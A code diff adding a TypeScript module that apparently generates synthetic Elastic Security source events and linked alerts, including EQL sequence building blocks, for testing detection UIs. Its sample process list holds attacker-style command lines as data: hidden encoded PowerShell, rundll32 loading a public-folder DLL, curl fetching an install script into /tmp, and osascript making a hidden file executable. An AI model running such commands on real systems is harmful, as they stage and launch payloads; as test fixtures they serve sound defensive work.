@@ -0,0 +1,345 @@
+/**
+ * Source events
+ * The events generated alerts are about (generate-alerts --with-source-events): process,
+ * network and authentication events indexed into real data streams, so an alert's ancestors,
+ * original time and original event point at documents that exist. "Investigate in timeline",
+ * the analyzer and the alert flyout's source-event view then work on generated data.
+ *
+ * Most alerts come from a single event and belong to a custom query rule. A share of them
+ * (--sequence-share) are event correlation (EQL sequence) alerts: one building-block alert per
+ * event in the sequence, each pointing at its event, and a parent ("shell") alert whose
+ * ancestors are the events and the building-block alerts.
+ */
+
+import { faker } from '@faker-js/faker';
+import { type BulkOperationTuple } from '../shared/elasticsearch.ts';
+import { addMetadataToDoc } from '../../utils/doc_metadata.ts';
+import { getAlertIndex } from '../../utils/index.ts';
+
+type SourceEventKind = 'process' | 'network' | 'authentication';
+
+const EVENT_TYPES: Record<
+  SourceEventKind,
+  { dataset: string; module: string; type: string[]; action: string }
+> = {
+  process: {
+    dataset: 'endpoint.events.process',
+    module: 'endpoint',
+    type: ['start'],
+    action: 'start',
+  },
+  network: {
+    dataset: 'endpoint.events.network',
+    module: 'endpoint',
+    type: ['start', 'connection'],
+    action: 'connection_attempted',
+  },
+  authentication: {
+    dataset: 'system.auth',
+    module: 'system',
+    type: ['start'],
+    action: 'logged-in',
+  },
+};
+
+/** Index patterns the generated rules claim to query, matching the data streams of the events. */
+const RULE_INDEX_PATTERNS = ['logs-endpoint.events.*', 'logs-system.auth-*'];
+
+/** Default percentage of alerts that are EQL sequence alerts with building blocks. */
+export const DEFAULT_SEQUENCE_SHARE = 20;
+
+const SECOND_MS = 1000;
+/** Rules run every 5 minutes, so an alert lands up to that long after its event. */
+const MAX_DETECTION_DELAY_MS = 5 * 60 * SECOND_MS;
+
+const PROCESSES = [
+  {
+    name: 'powershell.exe',
+    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    args: ['powershell.exe', '-nop', '-w', 'hidden', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
+    parent: { name: 'winword.exe', executable: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE' },
+    os: 'windows',
+  },
+  {
+    name: 'rundll32.exe',
+    executable: 'C:\\Windows\\System32\\rundll32.exe',
+    args: ['rundll32.exe', 'C:\\Users\\Public\\update.dll,Start'],
+    parent: { name: 'explorer.exe', executable: 'C:\\Windows\\explorer.exe' },
+    os: 'windows',
+  },
+  {
+    name: 'curl',
+    executable: '/usr/bin/curl',
+    args: ['curl', '-s', 'http://203.0.113.7/install.sh', '-o', '/tmp/.x'],
+    parent: { name: 'bash', executable: '/bin/bash' },
+    os: 'linux',
+  },
+  {
+    name: 'osascript',
+    executable: '/usr/bin/osascript',
+    args: ['osascript', '-e', 'do shell script "chmod +x /tmp/.agent"'],
+    parent: { name: 'zsh', executable: '/bin/zsh' },
+    os: 'macos',
+  },
+] as const;
+
+/** A source event and where it is indexed. */
+interface SourceEvent {
+  kind: SourceEventKind;
+  id: string;
+  index: string;
+  timestamp: number;
+  doc: Record<string, unknown>;
+  /** Fields an alert on this event copies from it (host, user, process, network) */
+  alertFields: Record<string, unknown>;
+}
+
+interface EventContext {
+  hostName: string;
+  userName: string;
+  timestamp: number;
+  /** The process an event in a sequence belongs to */
+  process: (typeof PROCESSES)[number] & { entityId: string; pid: number; parentEntityId: string };
+}
+
+const createSourceEvent = (kind: SourceEventKind, context: EventContext): SourceEvent => {
+  const { hostName, userName, timestamp, process } = context;
+  const id = faker.string.uuid();
+  const { dataset, module, type, action } = EVENT_TYPES[kind];
+  const index = `logs-${dataset}-default`;
+  const processFields =
+    kind === 'authentication'
+      ? {}
+      : {
+          'process.entity_id': process.entityId,
+          'process.pid': process.pid,
+          'process.name': process.name,
+          'process.executable': process.executable,
+          ...(kind === 'process' && {
+            'process.args': [...process.args],
+            'process.command_line': process.args.join(' '),
+            'process.parent.entity_id': process.parentEntityId,
+            'process.parent.name': process.parent.name,
+            'process.parent.executable': process.parent.executable,
+          }),
+        };
+  const networkFields =
+    kind === 'network'
+      ? {
+          'source.ip': faker.internet.ipv4(),
+          'source.port': faker.internet.port(),
+          'destination.ip': faker.internet.ipv4(),
+          'destination.port': faker.helpers.arrayElement([443, 8443, 4444, 8080]),
+          'network.transport': 'tcp',
+          'network.direction': 'egress',
+        }
+      : kind === 'authentication'
+        ? { 'source.ip': faker.internet.ipv4() }
+        : {};
+  const alertFields = {
+    'host.name': hostName,
+    'host.os.type': process.os,
+    'user.name': userName,
+    ...processFields,
+    ...networkFields,
+  };
+  const doc = addMetadataToDoc({
+    '@timestamp': new Date(timestamp).toISOString(),
+    'event.id': id,
+    'event.kind': 'event',
+    'event.category': [kind],
+    'event.type': type,
+    'event.action': action,
+    'event.dataset': dataset,
+    'event.module': module,
+    ...(kind === 'authentication' && { 'event.outcome': 'success' }),
+    'agent.type': kind === 'authentication' ? 'filebeat' : 'endpoint',
+    'ecs.version': '8.11.0',
+    'data_stream.type': 'logs',
+    'data_stream.dataset': dataset,
+    'data_stream.namespace': 'default',
+    ...alertFields,
+  });
+  return { kind, id, index, timestamp, doc, alertFields };
+};
+
+const getOriginalEventFields = ({ doc }: SourceEvent): Record<string, unknown> =>
+  Object.fromEntries(
+    Object.entries(doc)
+      .filter(([field]) => field.startsWith('event.'))
+      .map(([field, value]) => [`kibana.alert.original_${field}`, value]),
+  );
+
+const toEventOperation = (event: SourceEvent): BulkOperationTuple => [
+  { create: { _index: event.index, _id: event.id } },
+  event.doc,
+];
+
+/** The alert fields that point at a single source event. */
+const getEventAlertFields = (event: SourceEvent): Record<string, unknown> => ({
+  ...event.alertFields,
+  'kibana.alert.original_time': new Date(event.timestamp).toISOString(),
+  ...getOriginalEventFields(event),
+});
+
+const getRuleFields = (
+  alert: Record<string, unknown>,
+  rule: { type: 'query' | 'eql'; query: string },
+): Record<string, unknown> => ({
+  'kibana.alert.rule.indices': RULE_INDEX_PATTERNS,
+  'kibana.alert.rule.type': rule.type,
+  ...(rule.type === 'eql' && {
+    'kibana.alert.rule.category': 'Event Correlation Rule',
+    'kibana.alert.rule.rule_type_id': 'siem.eqlRule',
+  }),
+  'kibana.alert.rule.parameters': {
+    ...(alert['kibana.alert.rule.parameters'] as object),
+    type: rule.type,
+    language: rule.type === 'eql' ? 'eql' : 'kuery',
+    query: rule.query,
+    index: RULE_INDEX_PATTERNS,
+  },
+});
+
+/** Sequences the EQL rules look for, in the order their events happen. */
+const SEQUENCES: SourceEventKind[][] = [
+  ['authentication', 'process'],
+  ['process', 'network'],
+  ['authentication', 'process', 'network'],
+];
+
+const getSequenceQuery = (kinds: SourceEventKind[]): string =>
+  `sequence by host.name with maxspan=5m ${kinds.map((kind) => `[${kind} where true]`).join(' ')}`;
+
+/**
+ * Whether the i-th alert is a sequence alert, spreading sequences evenly so that
+ * ceil(n * share / 100) of n alerts are sequences, the first one included. Any share above 0
+ * therefore yields at least one building-block chain.
+ */
+export const isSequenceAlert = (i: number, sequenceShare: number): boolean =>
+  Math.ceil(((i + 1) * sequenceShare) / 100) > Math.ceil((i * sequenceShare) / 100);
+
+/**
+ * Bulk operations for an alert and the source events behind it: the events first, then any
+ * building-block alerts, then the alert itself. The alert keeps its own timestamp; its events
+ * happen shortly before it.
+ */
+export const createAlertWithSourceEvents = <A extends Record<string, unknown>>(
+  alert: A & {
+    '@timestamp': number | string;
+    'host.name': string;
+    'user.name': string;
+    'kibana.alert.uuid': string;
+    'kibana.alert.rule.uuid': string;
+  },
+  space: string,
+  { sequence }: { sequence: boolean },
+): BulkOperationTuple[] => {
+  const alertIndex = getAlertIndex(space);
+  const alertTime = new Date(alert['@timestamp']).getTime();
+  const template = faker.helpers.arrayElement(PROCESSES);
+  const context = {
+    hostName: alert['host.name'],
+    userName: alert['user.name'],
+    process: {
+      ...template,
+      entityId: faker.string.alphanumeric(40),
+      pid: faker.number.int({ min: 1000, max: 65000 }),
+      parentEntityId: faker.string.alphanumeric(40),
+    },
+  };
+
+  if (!sequence) {
+    const kind = faker.helpers.arrayElement<SourceEventKind>([
+      'process',
+      'network',
+      'authentication',
+    ]);
+    const event = createSourceEvent(kind, {
+      ...context,
+      timestamp: alertTime - faker.number.int({ min: 5 * SECOND_MS, max: MAX_DETECTION_DELAY_MS }),
+    });
+    return [
+      toEventOperation(event),
+      [
+        { create: { _index: alertIndex, _id: alert['kibana.alert.uuid'] } },
+        {
+          ...alert,
+          ...getEventAlertFields(event),
+          ...getRuleFields(alert, { type: 'query', query: `event.category: ${kind}` }),
+          'kibana.alert.ancestors': [{ id: event.id, type: 'event', index: event.index, depth: 0 }],
+          'kibana.alert.depth': 1,
+        },
+      ],
+    ];
+  }
+
+  // Events of a sequence are seconds to a minute apart, the last one shortly before the alert
+  const kinds = faker.helpers.arrayElement(SEQUENCES);
+  let timestamp = alertTime - faker.number.int({ min: 5 * SECOND_MS, max: MAX_DETECTION_DELAY_MS });
+  const events = kinds
+    .map(() => {
+      const eventTime = timestamp;
+      timestamp -= faker.number.int({ min: SECOND_MS, max: 60 * SECOND_MS });
+      return eventTime;
+    })
+    .reverse()
+    .map((eventTime, i) => createSourceEvent(kinds[i], { ...context, timestamp: eventTime }));
+
+  const groupId = faker.string.alphanumeric(64);
+  const ruleFields = getRuleFields(alert, { type: 'eql', query: getSequenceQuery(kinds) });
+  const eventAncestors = events.map((event) => ({
+    id: event.id,
+    type: 'event',
+    index: event.index,
+    depth: 0,
+  }));
+  // Building blocks share the parent's rule but none of its triage state
+  const untriaged = Object.fromEntries(
+    Object.entries(alert).filter(([field]) => !field.startsWith('kibana.alert.workflow_')),
+  );
+  const buildingBlocks = events.map((event, i) => ({
+    ...untriaged,
+    ...getEventAlertFields(event),
+    ...ruleFields,
+    '@timestamp': alertTime,
+    'kibana.alert.uuid': faker.string.uuid(),
+    'kibana.alert.workflow_status': 'open',
+    'kibana.alert.building_block_type': 'default',
+    'kibana.alert.group.id': groupId,
+    'kibana.alert.group.index': i,
+    'kibana.alert.ancestors': [eventAncestors[i]],
+    'kibana.alert.depth': 1,
+    'kibana.alert.reason': `${event.kind} event on ${alert['host.name']} matched sequence step ${i + 1} of ${events.length}`,
+  }));
+
+  return [
+    ...events.map(toEventOperation),
+    ...buildingBlocks.map((block): BulkOperationTuple => [
+      { create: { _index: alertIndex, _id: block['kibana.alert.uuid'] } },
+      block,
+    ]),
+    [
+      { create: { _index: alertIndex, _id: alert['kibana.alert.uuid'] } },
+      {
+        ...alert,
+        ...events[0].alertFields,
+        ...ruleFields,
+        'kibana.alert.original_time': new Date(events[0].timestamp).toISOString(),
+        'kibana.alert.group.id': groupId,
+        'kibana.alert.ancestors': [
+          ...eventAncestors,
+          ...buildingBlocks.map((block) => ({
+            id: block['kibana.alert.uuid'],
+            type: 'signal',
+            index: alertIndex,
+            depth: 1,
+            rule: alert['kibana.alert.rule.uuid'],
+          })),
+        ],
+        'kibana.alert.depth': 2,
+        'kibana.alert.reason': `Sequence of ${kinds.join(', ')} events on ${alert['host.name']} by ${alert['user.name']}`,
+      },
+    ],
+  ];
+};